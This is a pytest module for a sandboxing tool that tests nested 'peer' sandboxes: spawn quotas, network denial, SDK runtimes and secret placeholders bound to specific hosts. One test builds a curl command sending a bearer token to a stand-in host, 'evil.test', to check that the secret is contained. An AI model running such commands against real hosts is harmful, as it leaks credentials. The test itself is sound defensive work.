# SPDX-License-Identifier: Apache-2.0
"""Sandboxes that spawn sandboxes (docs/spawn.md): a parent started with
--allow-spawn runs `msb start/exec/ps/logs/stop/rm` inside itself, over
its agent's link to the host (not the network), on peers the host makes
within the parent's limits. One parent (Debian with curl, on the fake
internet with its TLS servers) and its two peers are booted once for the
module: one with a secret passed by placeholder, one air-gapped. The
servers' logs (fakenet.py) show where a value went. Last, the Go and
Rust SDKs' runtimes from inside a parent of the built-in image: a static
Go program on the pure-Go package, and a Rust program with only the C
library it was built against copied in; no libmsb in the guest."""

import json
import os
import shutil
import subprocess
import sys

import pytest

from conftest import BUILD, ROOT, files_holding, unique
from fakenet import internet, tls_internet  # noqa: F401

sys.path.insert(0, os.path.join(ROOT, "tests", "images"))

VALUE = "sk-spawn-" + os.urandom(12).hex()


@pytest.fixture(scope="module")
def debian_image(msb, tmp_path_factory):
    """tests/images/debian.py's python3 + curl image, loaded."""
    import build
    import debian
    try:
        im = debian.image()
    except debian.Unavailable as e:
        pytest.skip(f"Debian packages for the curl image unavailable: {e}")
    d = str(tmp_path_factory.mktemp("debian-layout"))
    build.write_layout(im, d, "debian-curl:1")
    msb("load", "-q", "-t", "debian-curl:1", d, check=0)
    return "debian-curl:1"


@pytest.fixture(scope="module")
def parent(msb, debian_image, tls_internet):
    """TOKEN bound to api.test and evil.test; two peers at most, of
    256M each."""
    name = unique("parent")
    msb("run", debian_image, "--name", name, "-d", "--dns-nameserver",
        "198.51.100.2", "--tls-upstream-ca", tls_internet.ca,
        "--secret-env", "TOKEN=@env:MSB_SPAWN_TOKEN:api.test,evil.test",
        "--allow-spawn", "2", "--spawn-memory", "256M", check=0,
        env={"MSB_SPAWN_TOKEN": VALUE})
    yield name
    msb("rm", "-f", name)


def inside(msb, name, *argv, timeout=180):
    """argv run in sandbox @name (no shell between)."""
    p = msb("exec", name, "--", *argv, timeout=timeout)
    return p.returncode, p.stdout.decode(), p.stderr.decode()


@pytest.fixture(scope="module")
def peers(msb, parent):
    """The parent starts "researcher" with its TOKEN for api.test only,
    and the air-gapped "coder"."""
    r = inside(msb, parent, "msb", "start", "researcher",
               "--secret-env", "TOKEN=@env:TOKEN:api.test")
    assert r[0] == 0 and r[1] == "researcher\n", r
    r = inside(msb, parent, "msb", "start", "coder", "--net-deny-all")
    assert r[0] == 0 and r[1] == "coder\n", r
    return "researcher", "coder"


def test_the_parent_runs_commands_in_its_peers(msb, parent, peers):
    researcher, coder = peers
    rc, out, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
                          "-c", "hostname; echo to-stderr >&2; exit 3")
    assert rc == 3 and out == "researcher\n" and "to-stderr" in err, \
        (rc, out, err)
    # output past the agent's buffers, read slowly: the program's credit
    # holds the host back, nothing is cut
    rc, out, err = inside(msb, parent, "sh", "-c",
                          f"msb exec {researcher} -- head -c 3000000 "
                          "/dev/zero | (sleep 2; wc -c)")
    assert rc == 0 and out.strip() == "3000000", (out, err)
    rc, out, _ = inside(msb, parent, "msb", "exec", coder, "--",
                        "hostname")
    assert rc == 0 and out.strip() == "coder"
    # its own peers, from inside, and the host's view of who spawned whom
    rc, out, _ = inside(msb, parent, "msb", "ps", "--format", "json")
    mine = {p["name"]: p["status"] for p in json.loads(out)}
    assert mine == {researcher: "running", coder: "running"}, out
    rows = {r["name"]: r for r in json.loads(msb.out("ps", "--format",
                                                     "json"))}
    assert rows[researcher]["parent"] == parent
    assert rows[coder]["parent"] == parent
    assert rows[parent]["parent"] is None
    table = msb.out("ps").splitlines()
    assert "PARENT" in table[0]
    assert any(l.split()[0] == coder and l.split()[-1] == parent
               for l in table[1:]), table
    # the supervisor's event, in the parent's stream
    evs = [json.loads(l) for l in msb.out(
        "events", parent, "--format", "json", "--topic",
        "msb.peer.*").splitlines()]
    assert {e["data"]["name"] for e in evs} == {researcher, coder}, evs


def test_the_air_gapped_peer_has_no_network(msb, parent, peers, tls_internet):
    researcher, coder = peers
    rc, out, _ = inside(msb, parent, "msb", "exec", researcher, "--",
                        "curl", "-sS", "-m", "20", "http://web.test/")
    assert rc == 0 and out == "hello from the fake internet\n", out
    rc, out, err = inside(msb, parent, "msb", "exec", coder, "--",
                          "curl", "-sS", "-m", "5", "http://198.51.100.2/")
    assert rc != 0, (out, err)
    assert "denied tcp 198.51.100.2:80: --net-deny-all" in \
        msb.out("logs", coder)


def test_a_secret_by_placeholder_works_at_its_bound_host_only(
        msb, parent, peers, tls_internet):
    researcher, _ = peers
    mine = inside(msb, parent, "sh", "-c", 'echo "$TOKEN"')[1].strip()
    theirs = inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
                    'echo "$TOKEN"')[1].strip()
    assert mine.startswith("msb_placeholder_") and \
        theirs.startswith("msb_placeholder_") and mine != theirs
    api, evil = (len(tls_internet.log(k)) for k in ("api", "evil"))
    curl = 'curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://%s/s'
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
                        "-c", curl % "api.test")
    assert rc == 0, err
    assert f"Bearer {VALUE}".encode() in tls_internet.log("api")[api:]
    # evil.test: the parent's binding, not the peer's
    inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
           curl % "evil.test")
    assert VALUE.encode() not in tls_internet.log("evil")[evil:]
    # while the parent itself may send it there
    rc, _, err = inside(msb, parent, "sh", "-c", curl % "evil.test")
    assert rc == 0 and VALUE.encode() in tls_internet.log("evil")[evil:], err
    # the value is in no guest, record, log or file of the host's state
    assert files_holding(msb.home, VALUE) == []


@pytest.mark.parametrize("argv, why", [
    (["--net-allow-cidr", "10.0.0.0/8"],
     "--net-allow-cidr 10.0.0.0/8 is wider than this sandbox's own network"),
    (["--secret-env", "T=@env:TOKEN:other.test"],
     "host 'other.test' is wider than this sandbox's binding"),
    (["--secret-env", "T=@env:PATH"],
     "is not a placeholder of this sandbox's secrets"),
    (["--image", "busybox:latest"],
     "image 'busybox:latest' is not one this sandbox may start peers from"),
    (["--memory", "1G"], "over the host's ceiling"),
])
def test_a_peer_may_not_be_wider_than_its_parent(msb, parent, peers, argv,
                                                 why):
    rc, out, err = inside(msb, parent, "msb", "start", "wide", *argv)
    assert rc == 125, (out, err)
    # (the tree is full too; what is wider is said first)
    assert why in err, err
    assert "wide" not in msb.out("ps", "-a", "-q").split()


def test_the_quota_counts_the_whole_tree(msb, parent, peers):
    researcher, _ = peers
    rc, _, err = inside(msb, parent, "msb", "start", "third")
    assert rc == 125 and "already has 2 live peers" in err, err
    # a peer's own peers count against its root's quota
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--",
                        "msb", "start", "grandchild")
    assert rc == 125 and "already has 2 live peers" in err, err
    assert "third" not in msb.out("ps", "-a", "-q").split()


def test_only_its_own_peers(msb, parent, peers, shared):
    researcher, _ = peers
    for argv in (["exec", shared, "--", "true"], ["stop", shared],
                 ["rm", shared], ["logs", shared]):
        rc, _, err = inside(msb, parent, "msb", *argv)
        assert rc == 125 and f"'{shared}' is not a peer of this sandbox" \
            in err, (argv, err)
    # a peer may not act on its parent either
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "msb",
                        "exec", parent, "--", "true")
    assert rc == 125 and "is not a peer of this sandbox" in err, err
    assert json.loads(msb.out("inspect", shared))["status"] == "running"


def test_spawning_is_off_without_allow_spawn(msb, shared):
    rc, _, err = inside(msb, shared, "msb", "start", "nope")
    assert rc == 125 and "spawning is off for this sandbox" in err, err


def test_outside_a_sandbox_it_says_so(msb):
    p = msb("start", "researcher", "--image", "busybox")
    assert p.returncode == 125
    assert b"not inside a microsandbox sandbox" in p.stderr, p.stderr


def test_stop_and_rm_of_a_peer_and_the_parent_takes_its_peers(msb, parent,
                                                             peers):
    researcher, coder = peers
    rc, _, err = inside(msb, parent, "msb", "stop", coder)
    assert rc == 0, err
    assert json.loads(msb.out("inspect", coder))["status"] == "stopped"
    rc, out, _ = inside(msb, parent, "msb", "logs", coder)
    assert "booting coder" in out
    msb("rm", "-f", parent, check=0)
    left = msb.out("ps", "-a", "-q").split()
    assert researcher not in left and coder not in left, left


def go_binary():
    for cand in (shutil.which("go"), "/usr/local/go/bin/go"):
        if cand and os.access(cand, os.X_OK):
            return cand
    return None


@pytest.fixture(scope="module")
def go_peers(tmp_path_factory):
    """sdk/go/examples/peers built with CGO_ENABLED=0: one static file,
    the SDK's guest package speaking the agent's frames itself."""
    go = go_binary()
    if not go:
        pytest.skip("no Go toolchain (Go >= 1.22) on this host")
    out = str(tmp_path_factory.mktemp("go-peers") / "peers")
    p = subprocess.run([go, "build", "-o", out, "./examples/peers"],
                       cwd=os.path.join(ROOT, "sdk", "go"),
                       env=dict(os.environ, CGO_ENABLED="0", GOPROXY="off",
                                GOFLAGS="-mod=readonly"),
                       capture_output=True, text=True, timeout=600)
    assert p.returncode == 0, p.stdout + p.stderr
    return out


@pytest.fixture(scope="module")
def small_parent(msb):
    """A parent of the built-in image (busybox: no libmsb, no C library)
    allowed one peer, for the SDKs' programs."""
    name = unique("sdkparent")
    msb("run", "--name", name, "-d", "--allow-spawn", "1", check=0)
    yield name
    msb("rm", "-f", name)


def peer_events(msb, parent):
    return [json.loads(l)["data"]["name"] for l in msb.out(
        "events", parent, "--format", "json", "--topic",
        "msb.peer.*").splitlines()]


def test_the_go_sdks_runtime_from_inside(msb, small_parent, go_peers):
    """The Go program: it starts a peer air-gapped, runs a command in it,
    takes 3 MB of output slowly (within its credit), lists it, is refused
    a second peer, reads its log, stops and removes it."""
    parent, peer = small_parent, unique("gopeer")
    msb("cp", go_peers, f"{parent}:/tmp/peers", check=0)
    rc, out, err = inside(msb, parent, "/tmp/peers", peer)
    steps = {}
    for line in out.splitlines():
        step = json.loads(line)
        steps[step["step"]] = step
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    assert steps["big"] == {"step": "big", "bytes": 3000000, "code": 0}
    assert [(p["name"], p["status"]) for p in steps["list"]["peers"]] \
        == [(peer, "running")], steps["list"]
    assert "already has 1 live peers" in steps["refused"]["message"]
    assert steps["logs"]["booting"] is True
    assert steps["removed"]["peers"] == []
    # the host saw it: its spawn event, and no peer left
    assert peer in peer_events(msb, parent)
    left = msb.out("ps", "-a", "-q").split()
    assert peer not in left and f"{peer}-2" not in left, left


def cargo_binary():
    for cand in (shutil.which("cargo"),
                 os.path.expanduser("~/.cargo/bin/cargo")):
        if cand and os.access(cand, os.X_OK):
            return cand
    return None


@pytest.fixture(scope="module")
def rust_peers():
    """sdk/rust/examples/peers, built against this build's libmsb as any
    program of the crate is, and the C libraries it needs (ldd): the
    built-in image has none, libmsb must not be one."""
    cargo = cargo_binary()
    if not cargo:
        pytest.skip("no Rust toolchain (cargo) on this host")
    target = os.path.join(BUILD, "cargo")
    env = dict(os.environ, PKG_CONFIG_PATH=os.path.join(BUILD, "lib",
                                                        "pkgconfig"),
               CARGO_TARGET_DIR=target, CARGO_NET_OFFLINE="true")
    env["PATH"] = os.path.dirname(cargo) + os.pathsep + env.get("PATH", "")
    p = subprocess.run([cargo, "build", "--offline", "--locked", "--example",
                        "peers"], cwd=os.path.join(ROOT, "sdk", "rust"),
                       env=env, capture_output=True, text=True, timeout=1200)
    assert p.returncode == 0, p.stderr[-4000:]
    exe = os.path.join(target, "debug", "examples", "peers")
    needed = subprocess.run(["readelf", "-d", exe], capture_output=True,
                            text=True, check=True).stdout
    assert "NEEDED" in needed and "libmsb" not in needed, needed
    libs = []
    for line in subprocess.run(["ldd", exe], capture_output=True, text=True,
                               check=True).stdout.splitlines():
        words = line.split()
        if "=>" in words and words[words.index("=>") + 1].startswith("/"):
            libs.append(words[words.index("=>") + 1])
        elif words and words[0].startswith("/"):
            libs.append(words[0])  # the loader
    return exe, libs


def test_the_rust_sdks_runtime_from_inside(msb, small_parent, rust_peers):
    """The Rust program, the same steps, with the C library it was built
    against copied in beside it (no libmsb)."""
    exe, libs = rust_peers
    parent, peer = small_parent, unique("rspeer")
    inside(msb, parent, "mkdir", "-p", "/tmp/libc")
    loader = None
    for lib in libs:
        base = os.path.basename(lib)
        msb("cp", os.path.realpath(lib), f"{parent}:/tmp/libc/{base}",
            check=0)
        if base.startswith("ld-linux"):
            loader = f"/tmp/libc/{base}"
    msb("cp", exe, f"{parent}:/tmp/peers-rs", check=0)
    rc, out, err = inside(msb, parent, loader, "--library-path", "/tmp/libc",
                          "/tmp/peers-rs", peer)
    assert rc == 0, (out, err)
    lines = out.splitlines()
    assert lines[0] == f"start {peer}", lines
    assert lines[1] == f'exec 3 "hello from {peer}\\n" "to-stderr\\n"', lines
    assert lines[2] == "big 3000000 0", lines
    assert lines[3] == f"list {peer} running", lines
    assert lines[4].startswith("refused ") and \
        "already has 1 live peers" in lines[4], lines
    assert lines[5:] == ["logs true", "removed 0"], lines
    assert peer in peer_events(msb, parent)
    assert peer not in msb.out("ps", "-a", "-q").split()


@pytest.fixture(scope="module")
def node_files():
    """This host's node and the C libraries it needs (ldd), to copy into
    a guest of the built-in image, which has neither: the suite has no
    image with node, and none may be downloaded."""
    node = shutil.which("node")
    if not node:
        pytest.skip("no Node.js on this host")
    node = os.path.realpath(node)
    files = [node]
    for line in subprocess.run(["ldd", node], capture_output=True, text=True,
                               check=True).stdout.splitlines():
        words = line.split()
        if "=>" in words and words[words.index("=>") + 1].startswith("/"):
            files.append(words[words.index("=>") + 1])
        elif words and words[0].startswith("/"):
            files.append(words[0])  # the loader
    return files


def test_the_typescript_sdks_runtime_from_inside(msb, small_parent,
                                                 node_files):
    """sdk/typescript/examples/peers.js with the package's lib/ alone (no
    addon, no libmsb): the same steps as the Go program."""
    parent, peer = small_parent, unique("tspeer")
    inside(msb, parent, "mkdir", "-p", "/tmp/node", "/tmp/msb/lib",
           "/tmp/msb/examples")
    loader = None
    for f in node_files:
        base = os.path.basename(f)
        msb("cp", os.path.realpath(f), f"{parent}:/tmp/node/{base}", check=0)
        if base.startswith("ld-linux"):
            loader = f"/tmp/node/{base}"
    ts = os.path.join(ROOT, "sdk", "typescript")
    for f in sorted(os.listdir(os.path.join(ts, "lib"))):
        if f.endswith(".js"):
            msb("cp", os.path.join(ts, "lib", f), f"{parent}:/tmp/msb/lib/{f}",
                check=0)
    msb("cp", os.path.join(ts, "examples", "peers.js"),
        f"{parent}:/tmp/msb/examples/peers.js", check=0)
    node = "/tmp/node/" + os.path.basename(node_files[0])
    rc, out, err = inside(msb, parent, loader, "--library-path", "/tmp/node",
                          node, "/tmp/msb/examples/peers.js", peer,
                          timeout=300)
    steps = {}
    for line in out.splitlines():
        step = json.loads(line)
        steps[step["step"]] = step
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    assert steps["big"] == {"step": "big", "bytes": 3000000, "code": 0}
    assert steps["list"]["peers"] == [{"name": peer, "status": "running"}]
    assert "already has 1 live peers" in steps["refused"]["message"]
    assert steps["logs"]["booting"] is True
    assert steps["removed"]["peers"] == []
    assert peer in peer_events(msb, parent)
    left = msb.out("ps", "-a", "-q").split()
    assert peer not in left and f"{peer}-2" not in left, left
